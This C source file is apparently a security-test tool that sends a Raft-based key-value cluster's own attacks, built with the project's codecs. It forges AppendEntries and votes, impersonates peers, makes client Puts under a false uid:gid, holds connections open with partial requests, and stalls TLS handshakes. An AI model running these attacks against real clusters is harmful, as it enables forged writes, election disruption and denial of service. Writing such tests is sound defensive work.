/* raftfs_attack.c - the attacks of issue 16, with the project's own codecs, for the security tests. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "kv/clerk.h"
#include "kv/cmd.h"
#include "kv/proto.h"
#include "raft/codec.h"
#include "raft/raft.h"
#include "raft/tls.h"
#include "raft/transport.h"

/*
 * What an attacker with nothing but the public cluster list can send to a node's port, each as
 * one command (usage below). Hellos, Raft messages, frames and client requests are encoded with
 * raft/codec.h, raft/transport.h, kv/cmd.h and kv/proto.h, so that what arrives is exactly what a
 * peer or a clerk would send. With --cacert (and --cert/--key) the connection is TLS, as the
 * clerk's (the certificate may be a client's or another node's: the attacks the node must refuse
 * then are the ones made with a stolen or a wrong certificate).
 *
 * Each command prints one line per connection: what was sent and how the node answered
 * ("closed by the node after N ms", "open"), and exits 0 when everything was sent (the tests look
 * at the cluster to see whether the attack did anything), 1 when it could not connect or send,
 * 2 for bad arguments.
 */

#define ATT_WAIT_MS 3000
#define ATT_CHUNK_BYTES (64u << 10)
#define ATT_MAX_CONNS 1024
#define ATT_ERR_BYTES 512
#define ATT_FRAME_BYTES 65536

struct opts {
	const char *cluster;
	const char *from; /* local address of the attacker's sockets */
	const char *cacert, *cert, *key;
	const char *cmd;
	uint32_t to; /* 0: every node (vote) */
	uint32_t as;
	uint64_t term;
	uint64_t prev_index, prev_term;
	bool prev_given;
	bool transfer;
	const char *key_name, *value;
	uint32_t uid, gid;
	long every_ms, for_ms, hold_ms;
	long conns;
	long bytes;
};

struct conn {
	int fd;
	struct ssl_st *ssl;
	char why[ATT_ERR_BYTES];
};

static struct raft_transport_config cl;
static struct raft_tls *tls;

static uint64_t now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000u + (uint64_t)ts.tv_nsec / 1000000u;
}

static const struct raft_transport_peer *peer_of(uint32_t id)
{
	for (unsigned i = 0; i < cl.n_peers; i++)
		if (cl.peers[i].id == id)
			return &cl.peers[i];
	return NULL;
}

/* Waits for events on fd (at most ms): 1 ready, 0 not, -1 error. */
static int wait_fd(int fd, short events, int ms)
{
	struct pollfd p = {.fd = fd, .events = events};
	int r;

	do
		r = poll(&p, 1, ms);
	while (r < 0 && errno == EINTR);
	return r;
}

/* A connection from o->from to node id, TLS when --cacert was given (the handshake done). */
static int conn_open(const struct opts *o, uint32_t id, struct conn *c)
{
	const struct raft_transport_peer *p = peer_of(id);
	struct sockaddr_in sa = {.sin_family = AF_INET}, src = {.sin_family = AF_INET};
	int one = 1;
	uint64_t deadline = now_ms() + ATT_WAIT_MS;

	memset(c, 0, sizeof(*c));
	c->fd = -1;
	if (!p) {
		snprintf(c->why, sizeof(c->why), "node %u is not in the cluster list", id);
		return -1;
	}
	c->fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (c->fd < 0)
		goto fail_errno;
	setsockopt(c->fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	if (o->from &&
	    (inet_pton(AF_INET, o->from, &src.sin_addr) != 1 ||
	     bind(c->fd, (struct sockaddr *)&src, sizeof(src)) != 0))
		goto fail_errno;
	inet_pton(AF_INET, p->host, &sa.sin_addr);
	sa.sin_port = htons(p->port);
	if (connect(c->fd, (struct sockaddr *)&sa, sizeof(sa)) != 0)
		goto fail_errno;
	if (fcntl(c->fd, F_SETFL, O_NONBLOCK) != 0)
		goto fail_errno;
	if (!tls)
		return 0;
	c->ssl = raft_tls_client_ssl(tls, c->fd, p->host);
	if (!c->ssl) {
		snprintf(c->why, sizeof(c->why), "TLS: out of memory");
		return -1;
	}
	for (;;) {
		short ev = 0;
		int r = raft_tls_io_handshake(c->ssl, &ev, c->why, sizeof(c->why));

		if (r == 1)
			return 0;
		if (r < 0)
			return -1;
		if (now_ms() >= deadline || wait_fd(c->fd, ev, (int)(deadline - now_ms())) <= 0) {
			snprintf(c->why, sizeof(c->why), "TLS handshake timed out");
			return -1;
		}
	}
fail_errno:
	snprintf(c->why, sizeof(c->why), "%s", strerror(errno));
	return -1;
}

static void conn_close(struct conn *c)
{
	raft_tls_io_close(c->ssl);
	c->ssl = NULL;
	if (c->fd >= 0)
		close(c->fd);
	c->fd = -1;
}

/* Sends len bytes within ms: 0, or -1 (the node closed the connection, or stopped reading). */
static int conn_send(struct conn *c, const void *buf, size_t len, int ms)
{
	const unsigned char *p = buf;
	uint64_t deadline = now_ms() + (uint64_t)ms;

	while (len > 0) {
		short ev = POLLOUT;
		ssize_t n;

		if (c->ssl)
			n = raft_tls_io_write(c->ssl, p, len, &ev, c->why, sizeof(c->why));
		else
			n = send(c->fd, p, len, MSG_NOSIGNAL);
		if (n > 0) {
			p += n;
			len -= (size_t)n;
			continue;
		}
		if (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR) {
			if (!c->ssl)
				snprintf(c->why, sizeof(c->why), "%s", strerror(errno));
			return -1;
		}
		if (now_ms() >= deadline || wait_fd(c->fd, ev, (int)(deadline - now_ms())) <= 0) {
			snprintf(c->why, sizeof(c->why), "the node takes no more bytes");
			return -1;
		}
	}
	return 0;
}

/* Reads within ms: the bytes read into buf (> 0), 0 when the node closed the connection, -1
 * when nothing came in time. */
static ssize_t conn_recv(struct conn *c, void *buf, size_t len, int ms)
{
	uint64_t deadline = now_ms() + (uint64_t)ms;

	for (;;) {
		short ev = POLLIN;
		ssize_t n;

		if (c->ssl)
			n = raft_tls_io_read(c->ssl, buf, len, &ev, c->why, sizeof(c->why));
		else
			n = recv(c->fd, buf, len, 0);
		if (n >= 0)
			return n;
		if (errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR)
			return 0; /* reset: closed as well */
		if (now_ms() >= deadline || wait_fd(c->fd, ev, (int)(deadline - now_ms())) <= 0)
			return -1;
	}
}

/* How long the node took to close c (ms), or -1 when it is still open after ms. */
static long conn_closed_after(struct conn *c, int ms)
{
	uint64_t t0 = now_ms();
	char b[4096];

	for (;;) {
		ssize_t n = conn_recv(c, b, sizeof(b), ms);

		if (n == 0)
			return (long)(now_ms() - t0);
		if (n < 0 || now_ms() - t0 >= (uint64_t)ms)
			return -1;
	}
}

static void report(const char *what, struct conn *c, int ms)
{
	long t = conn_closed_after(c, ms);

	if (t >= 0)
		printf("%s: closed by the node after %ld ms\n", what, t);
	else
		printf("%s: open after %d ms\n", what, ms);
}

/* --- hellos and frames --------------------------------------------------------------------- */

static size_t put_hello(unsigned char *out, enum raft_transport_conn_kind kind, uint32_t id)
{
	raft_transport_hello_encode(out, kind, id,
	                            kind == RAFT_TRANSPORT_KIND_PEER ? cl.cluster_id : 0);
	return RAFT_TRANSPORT_HELLO_BYTES;
}

/* m in a transport frame at out (cap bytes): its length, or 0. */
static size_t put_raft_frame(unsigned char *out, size_t cap, const struct raft_msg *m)
{
	struct raft_codec_buf b;
	size_t len = 0;

	raft_codec_buf_init(&b);
	if (raft_codec_encode_msg(&b, m) == RAFT_OK &&
	    b.len + RAFT_TRANSPORT_FRAME_HEADER_BYTES <= cap) {
		memcpy(out + RAFT_TRANSPORT_FRAME_HEADER_BYTES, b.data, b.len);
		raft_transport_frame_header(out, RAFT_TRANSPORT_FRAME_RAFT,
		                            out + RAFT_TRANSPORT_FRAME_HEADER_BYTES,
		                            (uint32_t)b.len);
		len = RAFT_TRANSPORT_FRAME_HEADER_BYTES + b.len;
	}
	raft_codec_buf_free(&b);
	return len;
}

/* Connects to node `to` as peer `as` and sends the hello and msg (NULL: the hello alone). */
static int peer_send(const struct opts *o, uint32_t to, const struct raft_msg *msg, struct conn *c)
{
	static unsigned char buf[ATT_FRAME_BYTES];
	size_t len;

	if (conn_open(o, to, c) != 0)
		return -1;
	len = put_hello(buf, RAFT_TRANSPORT_KIND_PEER, o->as);
	if (msg) {
		size_t n = put_raft_frame(buf + len, sizeof(buf) - len, msg);
		if (n == 0) {
			snprintf(c->why, sizeof(c->why), "cannot encode the message");
			return -1;
		}
		len += n;
	}
	return conn_send(c, buf, len, ATT_WAIT_MS);
}

/* --- the attacks --------------------------------------------------------------------------- */

/* The target's term and last index, from its status (when not given on the command line). */
static int target_log(const struct opts *o, uint64_t *term, uint64_t *last)
{
	struct kv_clerk_tls t = {o->cacert, o->cert, o->key};
	struct kv_proto_node_status st;
	char err[1024];
	struct kv_clerk *k = kv_clerk_open(o->cluster, o->cacert ? &t : NULL, err, sizeof(err));
	int rc;

	if (!k) {
		fprintf(stderr, "raftfs_attack: %s\n", err);
		return -1;
	}
	if (o->from)
		kv_clerk_set_bind(k, o->from);
	rc = kv_clerk_status(k, o->to, &st, ATT_WAIT_MS);
	if (rc == 0) {
		*term = st.term;
		*last = st.last_index;
	} else {
		fprintf(stderr,
		        "raftfs_attack: status of node %u: %s (give --term and --prev-index)\n",
		        o->to, kv_clerk_errmsg(k));
	}
	kv_clerk_close(k);
	return rc;
}

/* A forged AppendEntries from peer `as`: one Put of key=value owned by uid:gid, committed. */
static int cmd_append(const struct opts *o)
{
	struct kv_cmd cmd = {.op = KV_OP_PUT, .uid = o->uid, .gid = o->gid, .mode = 0644};
	struct raft_entry e;
	struct raft_msg m;
	struct conn c;
	uint64_t term = o->term, last = o->prev_index;
	void *buf;
	size_t len;
	int rc = 1;

	if (!o->prev_given && target_log(o, &term, &last) != 0)
		return 1;
	cmd.key = o->key_name;
	cmd.key_len = strlen(o->key_name);
	cmd.data = o->value;
	cmd.data_len = strlen(o->value);
	cmd.time_ms = (uint64_t)time(NULL) * 1000u;
	if (kv_cmd_encode(&cmd, &buf, &len) != KV_OK) {
		fprintf(stderr, "raftfs_attack: cannot encode the command\n");
		return 1;
	}
	memset(&m, 0, sizeof(m));
	m.type = RAFT_MSG_APPEND;
	m.from = o->as;
	m.to = o->to;
	m.term = term;
	m.u.append.prev_index = last;
	m.u.append.prev_term = o->prev_given && o->prev_term ? o->prev_term : term;
	m.u.append.commit = last + 1;
	m.u.append.n_entries = 1;
	e.term = term;
	e.index = last + 1;
	e.type = RAFT_ENTRY_NORMAL;
	e.len = (uint32_t)len;
	e.data = buf;
	m.u.append.entries = &e;
	if (peer_send(o, o->to, &m, &c) == 0) {
		char what[256];

		snprintf(what, sizeof(what),
		         "append to node %u as peer %u: term %llu, entry %llu puts %s", o->to,
		         o->as, (unsigned long long)term, (unsigned long long)(last + 1),
		         o->key_name);
		report(what, &c, (int)o->hold_ms);
		rc = 0;
	} else {
		printf("append to node %u as peer %u: refused: %s\n", o->to, o->as, c.why);
		rc = 0; /* refused is an outcome, not a failure of the tool */
	}
	conn_close(&c);
	raft_buf_unref(buf);
	return rc;
}

/* One forged RequestVote of o->term to node `to`. */
static void vote_once(const struct opts *o, uint32_t to, bool quiet)
{
	struct raft_msg m;
	struct conn c;

	memset(&m, 0, sizeof(m));
	m.type = RAFT_MSG_VOTE;
	m.from = o->as;
	m.to = to;
	m.term = o->term;
	m.u.vote.last_log_index = UINT64_MAX / 2;
	m.u.vote.last_log_term = o->term;
	m.u.vote.transfer = o->transfer;
	if (peer_send(o, to, &m, &c) == 0) {
		if (!quiet) {
			char what[128];
			snprintf(what, sizeof(what), "vote to node %u as peer %u, term %llu", to,
			         o->as, (unsigned long long)o->term);
			report(what, &c, 300);
		}
	} else if (!quiet) {
		printf("vote to node %u as peer %u: refused: %s\n", to, o->as, c.why);
	}
	conn_close(&c);
}

/* Forged votes to node `to` (0: every node but `as`), once or every every_ms for for_ms. */
static int cmd_vote(const struct opts *o)
{
	uint64_t end = now_ms() + (uint64_t)o->for_ms;
	unsigned rounds = 0;

	do {
		for (unsigned i = 0; i < cl.n_peers; i++) {
			uint32_t id = cl.peers[i].id;

			if ((o->to && id != o->to) || id == o->as)
				continue;
			vote_once(o, id, rounds > 0);
		}
		rounds++;
		if (o->every_ms > 0 && now_ms() < end)
			usleep((useconds_t)o->every_ms * 1000u);
	} while (o->every_ms > 0 && now_ms() < end);
	if (rounds > 1)
		printf("vote: %u rounds every %ld ms\n", rounds, o->every_ms);
	return 0;
}

/* A peer hello as `as` to node `to`, held open for hold_ms (a real peer's would be replaced). */
static int cmd_hello(const struct opts *o)
{
	struct conn c;
	char what[128];

	if (peer_send(o, o->to, NULL, &c) != 0) {
		printf("hello to node %u as peer %u: refused: %s\n", o->to, o->as, c.why);
		conn_close(&c);
		return 0;
	}
	snprintf(what, sizeof(what), "hello to node %u as peer %u", o->to, o->as);
	report(what, &c, (int)o->hold_ms);
	conn_close(&c);
	return 0;
}

/* A client request by hand: a Put claiming uid:gid, and the node's answer. */
static int cmd_put(const struct opts *o)
{
	struct kv_cmd cmd = {.op = KV_OP_PUT, .uid = o->uid, .gid = o->gid, .mode = 0644};
	struct kv_proto_frame req = {.type = KV_PROTO_REQ, .id = 1, .timeout_ms = 5000};
	static unsigned char in[ATT_FRAME_BYTES];
	struct kv_proto_frame f;
	unsigned char hello[RAFT_TRANSPORT_HELLO_BYTES];
	struct conn c;
	void *buf, *frame;
	size_t len, flen, have = 0;
	const char *why;
	int rc = 1;

	cmd.key = o->key_name;
	cmd.key_len = strlen(o->key_name);
	cmd.data = o->value;
	cmd.data_len = strlen(o->value);
	if (kv_cmd_encode(&cmd, &buf, &len) != KV_OK)
		return 1;
	req.body = buf;
	req.body_len = len;
	if (kv_proto_encode(&req, &frame, &flen) != 0) {
		raft_buf_unref(buf);
		return 1;
	}
	put_hello(hello, RAFT_TRANSPORT_KIND_CLIENT, 0);
	if (conn_open(o, o->to, &c) != 0 || conn_send(&c, hello, sizeof(hello), ATT_WAIT_MS) ||
	    conn_send(&c, frame, flen, ATT_WAIT_MS)) {
		printf("put %s claiming %u:%u: refused: %s\n", o->key_name, o->uid, o->gid, c.why);
		rc = 0;
		goto out;
	}
	for (;;) {
		ssize_t n = conn_recv(&c, in + have, sizeof(in) - have, 10000);
		size_t need;
		int r;

		if (n <= 0) {
			printf("put %s claiming %u:%u: %s\n", o->key_name, o->uid, o->gid,
			       n == 0 ? "closed by the node" : "no answer");
			rc = 0;
			break;
		}
		have += (size_t)n;
		r = kv_proto_frame_length(in, have, &need);
		if (r == 0)
			continue;
		if (r < 0 || kv_proto_decode(in, need, &f, &why) != 0) {
			printf("put %s: a malformed answer\n", o->key_name);
			break;
		}
		printf("put %s claiming %u:%u: %s\n", o->key_name, o->uid, o->gid,
		       kv_status_name(f.status));
		rc = 0;
		break;
	}
out:
	conn_close(&c);
	free(frame);
	raft_buf_unref(buf);
	return rc;
}

/* conns client connections, each sending the first bytes-1 bytes of a request of bytes bytes
 * (what a slow or hostile client leaves in the node's input buffer), held for hold_ms. */
static int cmd_hold(const struct opts *o)
{
	static struct conn cs[ATT_MAX_CONNS];
	static unsigned char chunk[ATT_CHUNK_BYTES];
	unsigned char head[RAFT_TRANSPORT_HELLO_BYTES + 4];
	long opened = 0, closed = 0, refused = 0;
	uint64_t sent = 0;

	memset(chunk, 'x', sizeof(chunk));
	put_hello(head, RAFT_TRANSPORT_KIND_CLIENT, 0);
	/* the kv/proto.h length: the bytes after this field */
	head[RAFT_TRANSPORT_HELLO_BYTES] = (unsigned char)((o->bytes - 4) & 0xff);
	head[RAFT_TRANSPORT_HELLO_BYTES + 1] = (unsigned char)(((o->bytes - 4) >> 8) & 0xff);
	head[RAFT_TRANSPORT_HELLO_BYTES + 2] = (unsigned char)(((o->bytes - 4) >> 16) & 0xff);
	head[RAFT_TRANSPORT_HELLO_BYTES + 3] = (unsigned char)(((o->bytes - 4) >> 24) & 0xff);
	for (long i = 0; i < o->conns; i++) {
		long left = o->bytes - 1 - 4;

		if (conn_open(o, o->to, &cs[i]) != 0 ||
		    conn_send(&cs[i], head, sizeof(head), ATT_WAIT_MS) != 0) {
			refused++;
			conn_close(&cs[i]);
			continue;
		}
		opened++;
		while (left > 0) {
			size_t n = left > (long)sizeof(chunk) ? sizeof(chunk) : (size_t)left;

			if (conn_send(&cs[i], chunk, n, 1000) != 0)
				break;
			left -= (long)n;
			sent += n;
		}
	}
	usleep((useconds_t)o->hold_ms * 1000u);
	for (long i = 0; i < o->conns; i++) {
		if (cs[i].fd < 0)
			continue;
		if (conn_closed_after(&cs[i], 10) >= 0)
			closed++;
		conn_close(&cs[i]);
	}
	printf("hold: %ld connections, %ld refused, %ld closed by the node, %ld open; %llu bytes "
	       "sent of %ld-byte requests\n",
	       o->conns, refused, closed, opened - closed, (unsigned long long)sent, o->bytes);
	return 0;
}

/* A TLS record header and nothing more (a stalled handshake), or garbage: when does it end? */
static int cmd_raw(const struct opts *o, bool garbage)
{
	struct raft_tls *saved = tls;
	unsigned char junk[4096];
	struct conn c;
	int rc;

	tls = NULL; /* by hand: no handshake of ours */
	rc = conn_open(o, o->to, &c);
	tls = saved;
	if (rc != 0) {
		printf("%s to node %u: refused: %s\n", garbage ? "garbage" : "stall", o->to, c.why);
		conn_close(&c);
		return 0;
	}
	if (garbage) {
		for (size_t i = 0; i < sizeof(junk); i++)
			junk[i] = (unsigned char)(rand() & 0xff);
		junk[0] = 'G';
		(void)conn_send(&c, junk, sizeof(junk), ATT_WAIT_MS);
	} else {
		(void)conn_send(&c, "\x16\x03\x01\x02\x00", 5, ATT_WAIT_MS);
	}
	report(garbage ? "garbage" : "stall", &c, (int)o->hold_ms);
	conn_close(&c);
	return 0;
}

/* --- arguments ----------------------------------------------------------------------------- */

static void usage(FILE *f)
{
	fprintf(f,
	        "usage: raftfs_attack --cluster=LIST [--from=ADDR] [--cacert=F [--cert=F --key=F]]\n"
	        "                     COMMAND [OPTIONS]\n"
	        "  append --to=ID --as=ID --name=K --value=V [--uid=U --gid=G] [--term=T\n"
	        "         --prev-index=I [--prev-term=T]]  a forged AppendEntries putting K, committed\n"
	        "  vote [--to=ID] --as=ID --term=T [--transfer] [--every-ms=MS --for-ms=MS]\n"
	        "  hello --to=ID --as=ID [--hold-ms=MS]   a forged peer hello, held open\n"
	        "  put --to=ID --name=K --value=V --uid=U --gid=G   a client Put claiming U:G\n"
	        "  hold --to=ID --conns=N --bytes=B [--hold-ms=MS] unfinished B-byte requests\n"
	        "  stall --to=ID [--hold-ms=MS]   a TLS record header, then silence\n"
	        "  garbage --to=ID [--hold-ms=MS] 4 KiB of random bytes\n"
	        "Prints what the node did with each connection. Exit 0 when sent, 1 when not, 2 usage.\n");
}

static int num(const char *v, uint64_t max, uint64_t *out)
{
	char *end;
	unsigned long long n;

	errno = 0;
	n = strtoull(v, &end, 10);
	if (errno || end == v || *end || n > max)
		return -1;
	*out = n;
	return 0;
}

static int parse(int argc, char **argv, struct opts *o)
{
	for (int i = 1; i < argc; i++) {
		const char *a = argv[i], *eq = strchr(a, '='), *v = eq ? eq + 1 : NULL;
		size_t nl = eq ? (size_t)(eq - a) : strlen(a);
		uint64_t n = 0;

#define IS(name) (nl == strlen(name) && strncmp(a, name, nl) == 0)
#define NUM(field, max)                                                                            \
	do {                                                                                       \
		if (!v || num(v, (max), &n) != 0)                                                  \
			return -1;                                                                 \
		o->field = n;                                                                      \
	} while (0)
		if (a[0] != '-') {
			if (o->cmd)
				return -1;
			o->cmd = a;
		} else if (IS("--transfer")) {
			o->transfer = true;
		} else if (!v) {
			return -1;
		} else if (IS("--cluster")) {
			o->cluster = v;
		} else if (IS("--from")) {
			o->from = v;
		} else if (IS("--cacert")) {
			o->cacert = v;
		} else if (IS("--cert")) {
			o->cert = v;
		} else if (IS("--key")) {
			o->key = v;
		} else if (IS("--name")) {
			o->key_name = v;
		} else if (IS("--value")) {
			o->value = v;
		} else if (IS("--to")) {
			NUM(to, UINT32_MAX);
		} else if (IS("--as")) {
			NUM(as, UINT32_MAX);
		} else if (IS("--term")) {
			NUM(term, UINT64_MAX);
		} else if (IS("--prev-index")) {
			NUM(prev_index, UINT64_MAX - 1);
			o->prev_given = true;
		} else if (IS("--prev-term")) {
			NUM(prev_term, UINT64_MAX);
		} else if (IS("--uid")) {
			NUM(uid, UINT32_MAX);
		} else if (IS("--gid")) {
			NUM(gid, UINT32_MAX);
		} else if (IS("--every-ms")) {
			NUM(every_ms, 86400000);
		} else if (IS("--for-ms")) {
			NUM(for_ms, 86400000);
		} else if (IS("--hold-ms")) {
			NUM(hold_ms, 86400000);
		} else if (IS("--conns")) {
			NUM(conns, ATT_MAX_CONNS);
		} else if (IS("--bytes")) {
			NUM(bytes, (uint64_t)KV_PROTO_MAX_FRAME_BYTES);
		} else {
			return -1;
		}
#undef NUM
#undef IS
	}
	return o->cluster && o->cmd ? 0 : -1;
}

int main(int argc, char **argv)
{
	struct opts o = {.hold_ms = 1000, .conns = 1, .bytes = 1 << 20};
	char err[1024];

	if (argc == 1) {
		usage(stdout);
		return 0;
	}
	if (parse(argc, argv, &o) != 0) {
		usage(stderr);
		return 2;
	}
	if (raft_transport_parse_cluster(o.cluster, &cl, err, sizeof(err)) != RAFT_OK) {
		fprintf(stderr, "raftfs_attack: --cluster: %s\n", err);
		return 2;
	}
	if (o.cacert) {
		struct raft_tls_files f;

		memset(&f, 0, sizeof(f));
		snprintf(f.ca, sizeof(f.ca), "%s", o.cacert);
		snprintf(f.cert, sizeof(f.cert), "%s", o.cert ? o.cert : "");
		snprintf(f.key, sizeof(f.key), "%s", o.key ? o.key : "");
		if (raft_tls_new(RAFT_TLS_CLIENT, &f, &tls, err, sizeof(err)) != 0) {
			fprintf(stderr, "raftfs_attack: TLS: %s\n", err);
			return 2;
		}
	}
	if (strcmp(o.cmd, "append") == 0 && o.to && o.as && o.key_name && o.value)
		return cmd_append(&o);
	if (strcmp(o.cmd, "vote") == 0 && o.as && o.term)
		return cmd_vote(&o);
	if (strcmp(o.cmd, "hello") == 0 && o.to && o.as)
		return cmd_hello(&o);
	if (strcmp(o.cmd, "put") == 0 && o.to && o.key_name && o.value)
		return cmd_put(&o);
	if (strcmp(o.cmd, "hold") == 0 && o.to && o.bytes > 8)
		return cmd_hold(&o);
	if (strcmp(o.cmd, "stall") == 0 && o.to)
		return cmd_raw(&o, false);
	if (strcmp(o.cmd, "garbage") == 0 && o.to)
		return cmd_raw(&o, true);
	usage(stderr);
	return 2;
}
